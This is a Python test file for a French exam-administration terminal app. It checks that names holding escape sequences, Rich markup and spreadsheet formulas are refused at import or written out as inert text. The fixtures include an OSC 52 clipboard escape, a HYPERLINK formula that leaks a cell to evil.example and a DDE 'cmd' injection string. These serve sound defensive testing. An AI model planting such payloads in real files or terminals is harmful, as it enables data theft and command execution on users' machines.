"""Hostile text: control characters, markup and formulas refused at input, shown as text on
screen and written as values in the files (issue 11, holes 1, 2, 3, 7 and 12)."""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import copy_base, office_screens, settle, type_text
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from rich.control import strip_control_codes
from rich.text import Text
from textual.pilot import Pilot
from textual.widgets import DataTable

from baktui.app import BaktuiApp
from baktui.data import db as dbmod
from baktui.data.models import Candidate
from baktui.demo import DemoSummary
from baktui.exports.excel import write_workbook
from baktui.exports.results import write_results
from baktui.rules.cells import csv_cell, is_formula_like
from baktui.rules.grades import GradeError, parse_grade
from baktui.rules.registration_form import contact_errors
from baktui.rules.regulation import PRECISION_WHOLE
from baktui.rules.text import REFUSED_CATEGORIES, control_error, name_error, visible
from baktui.screens.candidate_card import CandidateCardScreen
from baktui.services.imports import tabular
from baktui.services.imports.candidates import import_candidates
from baktui.services.sessions import SessionInfo
from baktui.widgets.data_table import plain

HEADER = "ine;nom;prenom;date_naissance;serie;statut;sous_choix;lva;lvb;options;eps_inapte"
LEA = "0701234561A;Martin;{first};14/03/2008;STMG;scolaire;MERC;ANG;ESP;;non"
OSC52 = "\x1b]52;c;cHduZWQ=\x07"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Jean")'


def candidates(tmp_path: Path, first: str = "Léa", born: str = "14/03/2008") -> Path:
    path = tmp_path / "candidats.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")  # quotes a value holding a ";"
        writer.writerow(HEADER.split(";"))
        cells = LEA.split(";")
        cells[2:4] = [first, born]
        writer.writerow(cells)
    return path


# --- Input: the rules ----------------------------------------------------------------------


def test_names_hold_letters_spaces_hyphens_apostrophes_and_dots_only() -> None:
    for good in ("Léa", "N'Diaye", "D’Alembert", "Jean-Paul", "St. John", "Øystein", "Đặng"):
        assert name_error(good) is None, good
    assert name_error("Paul [/]") == (
        "caractère « [ » refusé dans un nom (lettres, espaces, - ' . seulement)"
    )
    assert name_error("=SUM(A1)") is not None and name_error("@x") is not None
    assert name_error(OSC52) == "caractère de contrôle U+001B refusé"
    assert name_error("a\u202eb") == "caractère de contrôle U+202E refusé"  # bidi override
    assert name_error("A" * 81) == "81 caractères : 80 au plus"
    assert name_error("-.") == "un nom a au moins une lettre"
    assert control_error("12 rue de la Paix") is None
    assert visible(OSC52) == "\\x1b]52;c;cHduZWQ=\\x07"


def test_contact_details_refuse_control_characters() -> None:
    errors = contact_errors({"address": "1 rue\x1b[2J", "city": "Lyon"})
    assert errors == [("address", "caractère de contrôle U+001B refusé")]


def test_grade_codes_are_read_in_ascii_only() -> None:
    assert parse_grade("abs", PRECISION_WHOLE).grade.code == "ABS"
    for lookalike in ("dı", "abſ"):  # "dı".upper() == "DI", "abſ".upper() == "ABS"
        with pytest.raises(GradeError):
            parse_grade(lookalike, PRECISION_WHOLE)


# --- Input: the files ----------------------------------------------------------------------


def test_an_escape_sequence_in_a_file_refuses_the_line_and_writes_nothing(
    session: SessionInfo, tmp_path: Path
) -> None:
    report = import_candidates(session.id, candidates(tmp_path, first=OSC52))
    assert not report.ok and Candidate.select().count() == 0
    text = report.render()
    assert "ligne 2, colonne prenom, valeur « \\x1b]52;c;cHduZWQ=\\x07 »" in text
    assert "caractère de contrôle U+001B refusé" in text
    assert "\x1b" not in text and "\x07" not in text  # the report itself is safe to print


@pytest.mark.parametrize(
    ("first", "born", "reason"),
    [
        ("Paul [/]", "14/03/2008", "caractère « [ » refusé dans un nom"),
        ("J" * 3000, "14/03/2008", "3000 caractères : 1000 au plus"),
        ("Léa", "01/01/0001", "2025 ans en 2026 ?"),
        ("Léa", "01/12/2026", "0 ans en 2026 ? (de 13 à 100 ans attendus)"),
    ],
)
def test_hostile_values_in_a_candidates_file_are_refused(
    session: SessionInfo, tmp_path: Path, first: str, born: str, reason: str
) -> None:
    report = import_candidates(session.id, candidates(tmp_path, first=first, born=born))
    assert not report.ok and Candidate.select().count() == 0
    assert reason in report.render()


def _xlsx_with_false_dimension(path: Path, rows: int) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(";"))
    for n in range(rows):
        sheet.append([f"07012345{n:02d}", "Martin", "Léa", "14/03/2008", "STMG"])
    workbook.save(path)
    forged = path.with_name("forged.xlsx")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(forged, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:C3"', data)
            target.writestr(item, data)
    return forged


def test_an_xlsx_with_a_false_dimension_is_read_whole(tmp_path: Path) -> None:
    table = tabular.read_table(_xlsx_with_false_dimension(tmp_path / "c.xlsx", 100))
    assert len(table.rows) == 100 and table.rows[-1].get("ine") == "0701234599"
    assert table.rows[-1].get("serie") == "STMG"  # column E, beyond the declared C


def test_files_beyond_the_limits_are_refused_before_they_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "c.xlsx"
    workbook = Workbook()
    workbook.active.append(["ine", "nom"])
    workbook.save(path)
    monkeypatch.setattr(tabular, "MAX_XLSX_BYTES", 1000)
    with pytest.raises(tabular.TableError, match="une fois décompressé"):
        tabular.read_table(path)
    monkeypatch.setattr(tabular, "MAX_CELLS", 5)
    csv_path = tmp_path / "c.csv"
    csv_path.write_text("a;b\n1;2\n3;4\n", encoding="utf-8")
    with pytest.raises(tabular.TableError, match="plus de 5 cellules"):
        tabular.read_table(csv_path)


# --- Output: the files ---------------------------------------------------------------------

ROW = (
    "0701234561A",
    FORMULA,
    "+cmd|' /C calc'!A0",
    "STMG",
    "12,50",
    "ADMIS",
    "@SUM(1+1)",
    "260000001",
    "3",
)


def test_the_results_csv_holds_formulas_as_text(tmp_path: Path) -> None:
    out = tmp_path / "resultats.csv"
    write_results(out, [ROW])
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = list(csv.reader(handle, delimiter=";"))[1]
    assert cells == [
        "0701234561A",
        "'" + FORMULA,
        "'+cmd|' /C calc'!A0",
        "STMG",
        "12,50",
        "ADMIS",
        "'@SUM(1+1)",
        "260000001",
        "3",
    ]


def test_the_results_workbook_holds_formulas_as_text(tmp_path: Path) -> None:
    out = tmp_path / "resultats.xlsx"
    write_results(out, [ROW])
    sheet = load_workbook(out).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    texts = [c for i, c in enumerate(cells) if i not in (4, 5, 8)]
    assert [c.value for c in texts] == [v for i, v in enumerate(ROW) if i not in (4, 5, 8)]
    assert {c.data_type for c in texts} == {"s"}  # the exact characters, never a formula
    # the average and the jury are numbers (they sort and sum), the decision a French label
    assert (cells[4].value, cells[4].data_type, cells[4].number_format) == (12.5, "n", "0.00")
    assert (cells[5].value, cells[8].value) == ("Admis", 3)


def test_a_control_character_does_not_crash_a_workbook(tmp_path: Path) -> None:
    out = write_workbook(tmp_path / "w.xlsx", [("Feuille", ["nom"], [["Jean\x07"], [FORMULA]])])
    sheet = load_workbook(out).active
    assert [sheet["A2"].value, sheet["A3"].value] == ["Jean\ufffd", FORMULA]
    assert sheet["A3"].data_type == "s"


# --- Output: the screens -------------------------------------------------------------------

HOSTILE = ("Paul [/]", "[link=https://evil.example]Jean[/link]")


@pytest.fixture
def hostile_demo(
    demo_file: tuple[Path, DemoSummary], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Path, str]]:
    """The small demo where one candidate's name was stored before names were checked."""
    office_screens(monkeypatch, tmp_path)
    path = copy_base(demo_file[0], tmp_path / "demo.sqlite")
    dbmod.open_database(str(path))
    candidate = Candidate.select().order_by(Candidate.id).first()
    last, first = HOSTILE
    Candidate.update(last_name=last, first_name=first).where(Candidate.id == candidate.id).execute()
    number = candidate.number
    dbmod.close_database()
    yield path, number
    dbmod.close_database()


def screen_text(pilot: Pilot[None]) -> str:
    return "\n".join(strip.text for strip in pilot.app.screen._compositor.render_strips())


async def test_a_name_that_looks_like_markup_is_shown_as_typed_in_f2_and_on_the_card(
    hostile_demo: tuple[Path, str],
) -> None:
    path, number = hostile_demo
    app = BaktuiApp(str(path))
    async with app.run_test(size=(100, 30)) as pilot:
        await settle(pilot)
        await pilot.press("f2")
        await settle(pilot)
        await type_text(pilot, number)
        await settle(pilot)
        table = app.screen.query_one("#lookup-results", DataTable)
        assert table.row_count == 1
        shown = screen_text(pilot)
        assert "PAUL [/] [link=https:" in shown  # the name column, cut at its width
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, CandidateCardScreen)
        card = screen_text(pilot)
        assert "[link=https://evil.example]Jean[/link]" in card
        assert "Paul [/]" in card or "PAUL [/]" in card


# --- Properties ----------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_accepted_name_is_inert_everywhere(name: str) -> None:
    if name_error(name) is None:
        assert control_error(name) is None and "[" not in name
        assert not is_formula_like(name) or name.startswith("-")
    assert not is_formula_like(str(csv_cell(name))) or str(csv_cell(name)).startswith("'")
    # what a table shows is the text itself, whatever it holds
    shown = plain(name)
    if isinstance(shown, Text):
        assert shown.plain == strip_control_codes(name)  # never read as markup
    else:
        assert shown == name and "[" not in name  # no markup possible


# --- Property: import -> F2 -> card -> PDF, for hostile names --------------------------------

HOSTILE_ALPHABET = st.sampled_from(
    list("aAéÉ -'’.[]/=+@|\\\"<>;&") + ["\x1b", "\x07", "\x00", "\u202e", "\u200b", "\t", "ß"]
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(first=st.text(HOSTILE_ALPHABET, min_size=1, max_size=30))
def test_a_hostile_first_name_is_refused_or_kept_exactly_through_search_card_and_pdf(
    session: SessionInfo, tmp_path: Path, first: str
) -> None:
    from baktui.rules.words import clean_spaces
    from baktui.services.candidate_card import candidate_card
    from baktui.services.confirmations import issue_confirmations
    from baktui.services.search import lookup

    report = import_candidates(session.id, candidates(tmp_path, first=first))
    text = report.render()
    assert all(c == "\n" or unicodedata.category(c) not in REFUSED_CATEGORIES for c in text)
    accepted = clean_spaces(first)
    if not report.ok:
        # refused: a name the rules refuse, an empty one, or a control character inside it (a
        # tab between two words is refused, not turned into a space: see the next test)
        inner = first.strip()
        assert name_error(accepted) is not None or not accepted.strip() or control_error(inner), (
            text
        )
        return
    assert name_error(accepted) is None
    stored = Candidate.get(Candidate.ine == "0701234561A")
    assert stored.first_name == accepted
    hits = lookup(session.id, stored.number).hits
    assert [h.first_name for h in hits] == [accepted]
    assert candidate_card(stored.id).profile.first_name == accepted
    issued = issue_confirmations(session.id, [stored.id], out_dir=tmp_path)
    assert issued.path.read_bytes().startswith(b"%PDF")


def test_spaces_and_tabs_around_a_value_are_dropped_not_refused(
    session: SessionInfo, tmp_path: Path
) -> None:
    assert import_candidates(session.id, candidates(tmp_path, first="\tLéa \t")).ok
    assert Candidate.get(Candidate.ine == "0701234561A").first_name == "Léa"
    report = import_candidates(session.id, candidates(tmp_path, first="Lé\ta"))
    assert not report.ok and "caractère de contrôle U+0009 refusé" in report.render()
